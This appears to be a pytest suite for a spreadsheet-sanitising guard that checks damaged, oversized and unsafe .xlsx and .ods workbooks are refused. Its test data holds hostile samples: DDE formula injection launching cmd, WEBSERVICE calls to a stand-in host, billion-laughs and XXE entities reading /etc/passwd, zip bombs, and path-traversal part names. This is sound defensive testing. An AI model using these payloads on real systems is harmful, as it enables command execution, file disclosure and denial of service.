from __future__ import annotations

import struct
import tracemalloc
import zipfile
from io import BytesIO
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packages import BOOK, MAIN, RELATIONS, SHEET, TEXTS, TYPES, cell, ods, packed, part, row, sheet, xlsx, xlsx_parts

from mvi_standard.document import Unreadable
from mvi_standard.finding import Place
from mvi_standard.workbook.core.book import Book
from mvi_standard.workbook.core.guard import guarded
from mvi_standard.workbook.core.guard.external_formulas import asks_elsewhere
from mvi_standard.workbook.core.guard.limits import BookLimits
from mvi_standard.workbook.core.guard.refusal import in_both_languages
from mvi_standard.workbook.core.guard.xlsx import SeenBook

if TYPE_CHECKING:
    from mvi_standard.finding import Finding

ADD_IN = in_both_languages("workbook.add_in")
ONE = '<row r="1"><c r="A1"><v>1</v></c></row>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
LINK = '<Relationships xmlns="x"><Relationship Id="r" Type="x/{}" Target="{}" TargetMode="{}"/></Relationships>'
BESIDE = "xl/worksheets/_rels/sheet1.xml.rels"
SHEETS = "<sheet name='x' r:id='rId1'/>" * 51
HIDDEN = '<col min="1" max="16384" hidden="1"/>'
DOLLARS = (
    '<table:table-cell office:value-type="currency" office:value="1" office:currency="USD" '
    'table:number-columns-repeated="100"/>'
)
MILLION = "table:number-rows-repeated='1048576'"


def refusal(content: bytes, limits: BookLimits | None = None) -> Finding:
    with pytest.raises(Unreadable) as caught:
        guarded(content, limits or BookLimits())
    return caught.value.finding


def patched(content: bytes, name: str, offset: int, form: str, value: int) -> bytes:
    """Change a number in the entry of a part in the list at the end of the zip."""
    at = content.rindex(name.encode()) - 46 + offset
    return content[:at] + struct.pack(form, value) + content[at + struct.calcsize(form) :]


def bomb(size: int) -> bytes:
    return xlsx(ONE, **{SHEET: sheet(ONE + " " * size)})


GOOD = xlsx(ONE)
DAMAGED = {
    "nothing": b"PK",
    "cut off": GOOD[: len(GOOD) // 2],
    "a password on a part": patched(GOOD, SHEET, 8, "<H", 1),
    "a method that nobody has": patched(GOOD, SHEET, 10, "<H", 99),
    "bzip2": packed(xlsx_parts(ONE), zipfile.ZIP_BZIP2),
    "a checksum that does not hold": patched(GOOD, SHEET, 16, "<I", 7),
    "more bytes than it says": patched(GOOD, SHEET, 24, "<I", 9),
    "fewer bytes than it says": patched(GOOD, SHEET, 24, "<I", 100_000),
    "an entry outside the file": patched(GOOD, SHEET, 42, "<I", 2**31),
    "an entry that is none": patched(GOOD, SHEET, 42, "<I", 1),
    "fewer packed bytes than there are": patched(GOOD, SHEET, 20, "<I", 20),
    "a name that leads out": xlsx(ONE, **{"xl/../../x.xml": "<x/>"}),
    "a name from the root": xlsx(ONE, **{"/etc/x.xml": "<x/>"}),
    "two parts with the same name": xlsx(ONE, **{SHEET.upper(): sheet(ONE)}),
    "no sheet": xlsx(**{SHEET: None}),
    "no workbook": xlsx(ONE, **{BOOK: None}),
    "no relations": xlsx(ONE, **{RELATIONS: None}),
    "no relations of the package": xlsx(ONE, **{"_rels/.rels": None}),
    "a relation to elsewhere": xlsx(ONE, **{RELATIONS: part(RELATIONS).replace("worksheets/", "https://x.example/")}),
    "a relation out of the zip": xlsx(ONE, **{RELATIONS: part(RELATIONS).replace("worksheets/", "../../etc/")}),
    "no texts": xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', **{TEXTS: None}),
    "a text that is not there": xlsx('<row r="1"><c r="A1" t="s"><v>2</v></c></row>'),
    "a text before the first": xlsx('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>'),
    "a text without a number": xlsx('<row r="1"><c r="A1" t="s"><v/></c></row>'),
    "two lists of texts": xlsx(ONE, **{"xl/more.xml": part(TEXTS)}),
    "a count that is no number": xlsx(ONE, **{TEXTS: part(TEXTS).replace('uniqueCount="2"', 'uniqueCount="x"')}),
    "two sheets with the same name": xlsx(
        ONE, **{BOOK: part(BOOK).replace("</sheets>", '<sheet name="BLAD1" r:id="rId1"/></sheets>')}
    ),
    "no sheets at all": xlsx(ONE, **{BOOK: f"<workbook {MAIN}><sheets/></workbook>"}),
    "row 99999999999": xlsx('<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>'),
    "row 0": xlsx('<row r="0"><c r="A0"><v>1</v></c></row>'),
    "row 1048577": xlsx('<row r="1048577"/>'),
    "a row that is no number": xlsx('<row r="²"/>'),
    "column XFE": xlsx('<row r="1"><c r="XFE1"><v>1</v></c></row>'),
    "a cell of another row": xlsx('<row r="1"><c r="A2"><v>1</v></c></row>'),
    "a cell without a column": xlsx('<row r="1"><c r="1"><v>1</v></c></row>'),
    "a cell twice": xlsx('<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>'),
    "a row twice": xlsx('<row r="1"><c r="A1"><v>1</v></c></row><row r="1"><c r="A1"><v>2</v></c></row>'),
    "rows out of order": xlsx('<row r="2"/><row r="1"/>'),
    "a value outside a cell": xlsx("<v>1</v>"),
    "rows twice": xlsx(**{SHEET: sheet(f"{ONE}</sheetData><sheetData>")}),
    "columns that are hidden again and again": xlsx(
        **{SHEET: sheet(ONE).replace("<sheetData", f"<cols>{HIDDEN * 100}</cols><sheetData")}
    ),
    "a name among the texts": xlsx(ONE, **{TEXTS: part(TEXTS).replace("<si>", '<definedName name="x"/><si>', 1)}),
    "a value in an extension": xlsx(f"{ONE}<extLst><v>1</v></extLst>"),
    "a merged block that is none": xlsx(ONE, '<mergeCells><mergeCell ref="A1:B"/></mergeCells>'),
    "XML that breaks off": xlsx(**{SHEET: sheet(ONE)[:-3]}),
    "an empty part": xlsx(**{SHEET: b""}),
    "UTF-16 without a mark": xlsx(**{SHEET: sheet(ONE).encode("utf-16-le")}),
    "UTF-16": xlsx(**{SHEET: sheet(ONE).encode("utf-16")}),
    "an encoding that hides": xlsx(**{SHEET: f'<?xml version="1.0" encoding="cp037"?>{sheet(ONE)}é'.encode("latin-1")}),
    "another encoding that reads as UTF-8": xlsx(**{SHEET: f'<?xml version="1.0" encoding="cp1252"?>{sheet(ONE)}'}),
    "another encoding among the texts": xlsx(ONE, **{TEXTS: f'<?xml version="1.0" encoding="latin1"?>{part(TEXTS)}'}),
    "an .ods that is a text": packed({"mimetype": "x", "content.xml": "<x/>"}),
    "an .ods with a password": ods("", **{"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
    "no repetitions": ods(row(cell("x"), attributes="table:number-rows-repeated='0'")),
    "repetitions that are no number": ods(row(cell("x", attributes="table:number-columns-repeated='x'"))),
    "an .ods beyond the last column": ods(row(cell("x", attributes="table:number-columns-repeated='16385'"))),
    "a cell outside a row": ods(cell("x")),
    "a cell in a cell": ods(row(f"<table:table-cell>{cell('x')}</table:table-cell>")),
    "a row in a row": ods(row(row(cell("x")))),
}


@pytest.mark.parametrize("content", DAMAGED.values(), ids=DAMAGED)
def test_what_is_damaged_is_refused(content: bytes) -> None:
    assert refusal(content).code == "MVI-F020"


TOO_LARGE = {
    "1,001 parts": xlsx(ONE, **{f"xl/{n}.xml": "<x/>" for n in range(1000)}),
    "a part that grows a thousand times": bomb(2_000_000),
    "a part that says to grow": patched(GOOD, SHEET, 24, "<I", 90_000_000),
    "parts that say to be 4 GB": patched(patched(GOOD, SHEET, 24, "<I", 2**32 - 1), SHEET, 20, "<I", 2**31),
    "4,294,967,295 texts": xlsx(ONE, **{TEXTS: part(TEXTS).replace('uniqueCount="2"', 'uniqueCount="4294967295"')}),
    "a value in row 100,001": xlsx('<row r="100001"><c r="A100001"><v>1</v></c></row>'),
    "two far corners": xlsx('<row r="1"><c r="XFD1"><v>1</v></c></row><row r="9999"><c r="A9999"><v>1</v></c></row>'),
    "one text, in far too many cells": xlsx(
        "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>1</v></c></row>' for n in range(1, 2000)),
        **{TEXTS: f"<sst {MAIN}><si><t/></si><si><t>{'abcdefgh' * 10_000}</t></si></sst>"},
    ),
    "elements within each other": xlsx(**{SHEET: f"{'<x>' * 40_000}{'</x>' * 40_000}"}),
    "far too many names": xlsx(**{SHEET: f"<x>{''.join(f'<x{n}/>' for n in range(12_000))}</x>"}),
    "one tag of 2 MB": xlsx(**{SHEET: f"<x y='{'0123456789' * 200_000}'/>"}),
    "51 sheets": xlsx(ONE, **{BOOK: f"<workbook {MAIN}><sheets>{SHEETS}</sheets></workbook>"}),
    "a row a million times": ods(row(cell("x"), attributes=MILLION)),
    "a value after a million rows": ods(row("<table:table-cell/>", attributes=MILLION) + row(cell("x"))),
    "16,384 columns, 9,999 times": ods(
        row(
            cell("x", attributes="table:number-columns-repeated='16384'"),
            attributes="table:number-rows-repeated='9999'",
        )
    ),
    "a formula without value, 9 million times": ods(
        row(
            "<table:table-cell table:formula='x' table:number-columns-repeated='90'/>",
            attributes="table:number-rows-repeated='99999'",
        )
    ),
    "ten million dollars": ods(row(DOLLARS, attributes="table:number-rows-repeated='5000'") * 20),
    "nine million blanks": ods(row(*[cell('<text:s text:c="999999"/>')] * 9)),
}


@pytest.mark.parametrize("content", TOO_LARGE.values(), ids=TOO_LARGE)
def test_what_would_fill_the_memory_is_refused_before_it_does(content: bytes) -> None:
    tracemalloc.start()
    try:
        assert refusal(content).code == "MVI-F021"
        assert tracemalloc.get_traced_memory()[1] < 60_000_000
    finally:
        tracemalloc.stop()


FORMULA_XLSX = '<row r="1"><c r="A1" t="str"><f>{}</f><v>x</v></c></row>'
ASKING_BOTH = (
    "cmd|'/c calc'!A0",
    "_xlfn.WEBSERVICE(&quot;https://x.example&quot;)",
    "1+webservice (&quot;https://x.example&quot;)",
    "_xlfn.IMAGE(&quot;https://x.example/&quot;&amp;A1)",
    "DDE(&quot;soffice&quot;;&quot;x.ods&quot;;&quot;A1&quot;)",
    "RTD(&quot;x.y&quot;,,&quot;z&quot;)",
    "CALL(&quot;x&quot;)",
    "REGISTER.ID(&quot;x&quot;)",
    "SQL.REQUEST(&quot;DSN=x&quot;)",
    "'a&quot;b'!A1+DDE(&quot;x&quot;)+'a&quot;c'!A1",
)
ASKING_XLSX = (
    r"'\\10.0.0.1\it''s\[a.xlsx]B''s'!A0",
    *ASKING_BOTH,
    "cmd|'/c ''calc'' x'!A0",
    "cmd|calc!A0",
    "cmd |'/c calc'!A0",
    "cmd|\n'/c calc'!A0",
    "'cmd'|'/c calc'!A0",
    "'a&quot;b'!A1+cmd|'/c calc'!A0+'a&quot;c'!A1",
    "&quot;'&quot;&amp;cmd|'/c calc'!A0&amp;&quot;'&quot;",
    "[a']+cmd|'/c calc'!A0+[b']",
    "T[&quot;]+cmd|calc!A0+T[&quot;]",
    "'[1]Mijn blad'!A1+[x.xlsx]Blad1!A1",
    r"'C:\map\[x.xlsx]Blad1'!A1",
    "'https://x.example/[x.xlsx]Blad1'!A1",
    "'https://x.example/x.xlsx'!Naam",
)
HARMLESS_XLSX = (
    "'a|'!A1+'b'!A1",
    "'a|b'!A1",
    "'a|''!'!A1&amp;'!'",
    "'a&quot;b'!A1&amp;'|'!A1",
    "'Mijn blad'!A1",
    "'it''s | x'!A1",
    "&quot;a|b&quot;",
    "&quot;a&quot;&quot;|&quot;&quot;b&quot;",
    "IF(A1=&quot;x|'y'!&quot;,1,2)",
    "HYPERLINK(&quot;https://x.example&quot;)",
    "&quot;WEBSERVICE(&quot;&amp;A1",
    "A1/2",
    "Tabel1[[#This Row],[Kosten | baten]]*Tabel1[it''s '# &quot;|&quot;]",
    "[0]!Naam+[1]Blad1!A1+'[1]Mijn blad'!A1",
    "_xlfn.CALLS(1)+MYDDE(2)",
)
MASHUP = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
FORMULA = '<table:table-cell table:formula="of:={}" office:value-type="float" office:value="1"/>'
ASKING = (
    *ASKING_BOTH,
    "COM.MICROSOFT.WEBSERVICE(&quot;https://x.example&quot;)",
    "[$'a&quot;b'.A1]+DDE(&quot;a&quot;)+[$'a&quot;c'.A1]",
    "[file:///x.ods#Blad1.A1]",
    "['file:///x.ods'#$Blad1.A1]",
    "['x''s.ods'#$Blad1.A1]",
)
HARMLESS = (
    "SUM([.A1:.B2])/2",
    "$'#een'.A1+$'twee''s'.B1",
    "[$'a|b'.A1]+[$'Prijs: euro/stuk'.A1]+[$'a:/b'.A1]",
    "[$'a&quot;b'.A1]&amp;&quot;a&quot;&quot;|&quot;",
    "SUM({1;2|3;4})",
    "HYPERLINK(&quot;https://x.example&quot;)&amp;&quot;'a'#DDE(&quot;",
)
CHECK = (
    "<dataValidations><dataValidation><formula1>{}</formula1><formula2>{}</formula2></dataValidation></dataValidations>"
)
FORMATTED = "<conditionalFormatting><cfRule>{}</cfRule></conditionalFormatting>"
AFTER_ROWS = {
    "a check": CHECK.format("{}", 1),
    "the end of a check": CHECK.format(1, "{}"),
    "a format": FORMATTED.format("<formula>{}</formula>"),
    "a scale": FORMATTED.format('<colorScale><cfvo type="formula" val="{}"/></colorScale>'),
    "an extension": '<extLst><ext xmlns:xm="x"><xm:f>{}</xm:f><xm:sqref>A1</xm:sqref></ext></extLst>',
}
NAMES = '<definedNames><definedName name="x">{}</definedName></definedNames></workbook>'
IN_PARTS = {
    "a name": (BOOK, part(BOOK).replace("</workbook>", NAMES)),
    "a chart": ("xl/charts/chart1.xml", "<c:x xmlns:c='x'><c:f>{}</c:f><c:v>Kosten | baten</c:v></c:x>"),
    "a table": ("xl/tables/table1.xml", "<table><calculatedColumnFormula>{}</calculatedColumnFormula></table>"),
}


def around(where: str, formula: str) -> bytes:
    """Return an .xlsx with a formula outside its cells."""
    if where in AFTER_ROWS:
        return xlsx(ONE, AFTER_ROWS[where].replace("{}", formula))
    name, content = IN_PARTS[where]
    return xlsx(ONE, **{name: content.replace("{}", formula)})


UNWANTED = {
    "macros": xlsx(ONE, **{"xl/vbaProject.bin": b"x"}),
    "macros in other letters": xlsx(ONE, **{"XL/VBAPROJECT.BIN": b"x"}),
    "macros by type": xlsx(ONE, **{TYPES: part(TYPES).replace(".sheet.main+xml", ".sheet.macroEnabled.main+xml")}),
    "macros by relation": xlsx(ONE, **{BESIDE: LINK.format("vbaProject", "../x.bin", "")}),
    "an old macro sheet": xlsx(ONE, **{"xl/macrosheets/sheet1.xml": "<x/>"}),
    "a link to a file": xlsx(ONE, **{"xl/externalLinks/externalLink1.xml": "<x/>"}),
    "a picture from elsewhere": xlsx(ONE, **{BESIDE: LINK.format("image", "https://x.example/x.png", "External")}),
    "a connection": xlsx(ONE, **{"xl/connections.xml": "<x/>"}),
    "macros in another folder": xlsx(ONE, **{"xl/anders/mijn_vbaProject.bin": b"x"}),
    "an add-in": xlsx(ONE, **{"xl/webextensions/taskpanes.xml": "<x/>"}),
    "an add-in by relation": xlsx(ONE, **{BESIDE: LINK.format("webextensiontaskpanes", "../x.xml", "")}),
    "buttons of its own": xlsx(ONE, **{"customUI/customUI14.xml": "<x/>"}),
    "Power Query": xlsx(ONE, **{"customXml/item1.xml": MASHUP}),
    "Power Query as Excel writes it": xlsx(ONE, **{"customXml/item1.xml": MASHUP.encode("utf-16")}),
    "a data model": xlsx(ONE, **{"xl/model/item.data": b"x"}),
    "a data model by relation": xlsx(ONE, **{BESIDE: LINK.format("powerPivotData", "../x.data", "")}),
    "a zip as a picture": xlsx(ONE, **{"xl/media/image1.png": packed({"x": "x"})}),
    "an old workbook as a picture": xlsx(ONE, **{"xl/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "a file in the file": xlsx(ONE, **{"xl/embeddings/oleObject1.bin": b"x"}),
    "laughs": xlsx(**{SHEET: LAUGHS + sheet(ONE)}),
    "a DOCTYPE outside the sheets": xlsx(ONE, **{"customXml/item1.xml": "<!DOCTYPE x><x/>"}),
    "a DOCTYPE in UTF-16": xlsx(ONE, **{"customXml/item1.xml": "<!DOCTYPE x><x/>".encode("utf-16")}),
    "an entity from a file": xlsx(**{SHEET: f'<!DOCTYPE x SYSTEM "file:///etc/passwd">{sheet(ONE)}'}),
    "Basic in an .ods": ods(row(cell("x")), **{"Basic/Standard/Module1.xml": "<x/>"}),
    "a script in an .ods": ods(row(cell("x")), "<office:scripts><office:script/></office:scripts>"),
    "a linked sheet in an .ods": ods(f"<table:table-source/>{row(cell('x'))}"),
    "an object in an .ods": ods(
        row("<table:table-cell><draw:frame><draw:object-ole/></draw:frame></table:table-cell>")
    ),
    **{f"{each} in an .xlsx": xlsx(FORMULA_XLSX.format(each)) for each in ASKING_XLSX},
    **{f"{each} in {where}": around(where, each) for where in (*AFTER_ROWS, *IN_PARTS) for each in ASKING_XLSX[:2]},
    "a zip in an .ods": ods(row(cell("x")), **{"Pictures/x.png": packed({"x": "x"})}),
    **{f"{each} in an .ods": ods(row(FORMULA.format(each))) for each in ASKING},
    "a name for another file in an .ods": ods(
        row(cell("x")), f'<table:named-range table:cell-range-address="{ASKING[-1]}"/>'
    ),
    "a check by another file in an .ods": ods(
        row(cell("x")), f'<table:content-validation table:condition="of:cell-content()={ASKING[-1]}"/>'
    ),
    "a query in an .ods": ods(
        row(cell("x")), "<table:database-range><table:database-source-sql/></table:database-range>"
    ),
    "a sheet in a cell": ods(row('<table:table-cell><table:table table:name="x"/></table:table-cell>')),
    "laughs in an .ods": packed({"content.xml": LAUGHS + "<x/>"}),
}


@pytest.mark.parametrize("content", UNWANTED.values(), ids=UNWANTED)
def test_what_is_more_than_cells_is_refused(content: bytes) -> None:
    assert refusal(content).code == "MVI-F022"


@pytest.mark.parametrize("formula", HARMLESS)
def test_a_formula_within_the_workbook_is_no_harm(formula: str) -> None:
    assert guarded(ods(row(FORMULA.format(formula))))


@pytest.mark.parametrize("formula", HARMLESS_XLSX)
def test_so_is_one_within_an_xlsx(formula: str) -> None:
    assert guarded(xlsx(FORMULA_XLSX.format(formula)))


@pytest.mark.parametrize("where", [*AFTER_ROWS, *IN_PARTS])
@pytest.mark.parametrize("formula", HARMLESS_XLSX)
def test_so_is_one_outside_the_cells(where: str, formula: str) -> None:
    assert guarded(around(where, formula))


SIGNS = st.text(st.sampled_from("ab|\"' !#=(){};:/\\[]"))


@given(SIGNS, SIGNS, SIGNS)
def test_a_text_or_a_name_neither_asks_nor_hides_what_does(text: str, name: str, column: str) -> None:
    quoted = '"' + text.replace('"', '""') + '"'
    sheet_of = "'" + "".join(each for each in name if each not in "[]/\\").replace("'", "''") + "'"
    table = "T[" + "".join(f"'{each}" if each in "[]#'" else each for each in column) + "]"
    harmless = f"{quoted}&{sheet_of}!A1&{table}"

    assert not asks_elsewhere(harmless)
    for asking in ("cmd|x!A0", "DDE(A1)", "'a|'!A1+cmd|'x'!A0"):
        assert asks_elsewhere(f"{harmless}&{asking}&{harmless}")


def test_a_formula_in_an_extension_is_not_one_of_the_last_cell() -> None:
    seen = guarded(around("an extension", "Blad1!$A$1"))

    assert isinstance(seen, SeenBook)
    assert seen.sheets[0].part
    assert seen.sheets[0].part.rows
    assert not seen.sheets[0].part.rows.uncomputed


@pytest.mark.parametrize(
    ("content", "place"),
    [
        (xlsx(FORMULA_XLSX.format("cmd|x!A0").replace("A1", "B1")), Place(1, 2, sheet="Blad1")),
        (ods(row(cell("x"), FORMULA.format("DDE(1)"))), Place(1, 2, sheet="Blad1")),
    ],
)
def test_a_refused_formula_has_its_place(content: bytes, place: Place) -> None:
    assert refusal(content).place == place


@pytest.mark.parametrize("name", ["an add-in", "an add-in by relation"])
def test_an_add_in_is_refused_with_what_to_do(name: str) -> None:
    assert refusal(UNWANTED[name]).values == {"problem": ADD_IN}


def test_hidden_columns_may_be_all_but_one() -> None:
    columns = '<cols><col min="1" max="1"/><col min="2" max="16384" hidden="1"/></cols><sheetData'
    seen = guarded(xlsx(**{SHEET: sheet(ONE).replace("<sheetData", columns)}))

    assert isinstance(seen, SeenBook)
    assert seen.sheets[0].part
    assert seen.sheets[0].part.unseen == set(range(2, 16_385))


DOLLAR_STYLE = (
    '<numFmts><numFmt numFmtId="170" formatCode="[$USD] 0"/></numFmts><cellXfs><xf numFmtId="170"/></cellXfs>'
)
DOLLAR_ROW = '<row r="1"><c r="A1" s="0"><v>1</v></c><c r="B1" s="0"><v>1</v></c></row>'
MARKED = {
    "dollars": xlsx(DOLLAR_ROW, **{"xl/styles.xml": f"<styleSheet>{DOLLAR_STYLE}</styleSheet>"}),
    "dollars in an .ods": ods(row(DOLLARS.replace("100", "1") + DOLLARS.replace("100", "1"))),
    "merged cells": xlsx(ONE, '<mergeCells><mergeCell ref="A1:B1"/><mergeCell ref="A2:B2"/></mergeCells>'),
    "errors and formulas": xlsx('<row r="1"><c r="A1" t="e"><v>#N/A</v></c><c r="B1"><f>A1</f></c></row>'),
}


@pytest.mark.parametrize("content", MARKED.values(), ids=MARKED)
def test_marks_on_cells_are_counted_together(content: bytes) -> None:
    assert guarded(content, BookLimits(marks=2))
    assert refusal(content, BookLimits(marks=1)).code == "MVI-F021"


def test_a_zip_in_a_binary_workbook_is_refused() -> None:
    with_zip = packed({"xl/workbook.bin": b"x", "xl/media/image1.png": packed({"x": "x"})})
    assert refusal(with_zip).code == "MVI-F022"


def test_a_picture_and_the_settings_of_a_printer_are_no_harm() -> None:
    others: dict[str, str | bytes] = {
        "xl/media/image1.png": b"\x89PNG\r\n\x1a\n",
        "xl/printerSettings/x.bin": b"PK",
        "customXml/item1.xml": "<x/>",
    }
    assert guarded(xlsx(ONE, **others))


def test_a_refusal_points_to_the_cell() -> None:
    place = refusal(xlsx('<row r="2"><c r="C2"><v>1</v></c><c r="B2"/></row>')).place

    assert place == Place(2, 3, sheet="Blad1")


def test_a_link_to_click_on_is_no_harm() -> None:
    assert guarded(xlsx(ONE, **{BESIDE: LINK.format("hyperlink", "https://x.example", "External")}))


def test_rows_that_are_empty_may_go_to_the_last_of_a_sheet() -> None:
    rows = f'{ONE}<row r="1048576"><c r="XFD1048576" s="1"/></row>'

    seen = guarded(xlsx(rows))

    assert isinstance(seen, SeenBook)
    assert seen.sheets[0].part
    assert seen.sheets[0].part.rows
    assert (seen.sheets[0].part.rows.height, seen.sheets[0].part.rows.width) == (1, 1)


def test_an_ods_may_end_in_a_million_empty_rows() -> None:
    empty = "<table:table-cell table:number-columns-repeated='16384'/>"

    book = guarded(ods(row(cell("x"), empty) + row(empty, attributes=MILLION)))

    assert isinstance(book, Book)
    assert book.grids[0].rows == (("x",),)


@pytest.mark.parametrize(("limits", "code"), [(BookLimits(rows=3), None), (BookLimits(rows=2), "MVI-F021")])
def test_a_limit_is_the_last_that_is_good(limits: BookLimits, code: str | None) -> None:
    content = xlsx('<row r="3"><c r="A3"><v>1</v></c></row>')

    assert (refusal(content, limits).code if code else bool(guarded(content, limits))) == (code or True)


def test_a_reader_gets_only_what_was_seen() -> None:
    seen = guarded(xlsx(ONE, **{"xl/media/image1.png": "x", "customXml/item1.xml": "<x/>", "xl\\theme.xml": "<x/>"}))

    assert isinstance(seen, SeenBook)
    with zipfile.ZipFile(BytesIO(seen.clean)) as clean:
        assert set(clean.namelist()) == {*xlsx_parts(), "xl/theme.xml"}
        assert clean.read(SHEET).decode() == sheet(ONE)
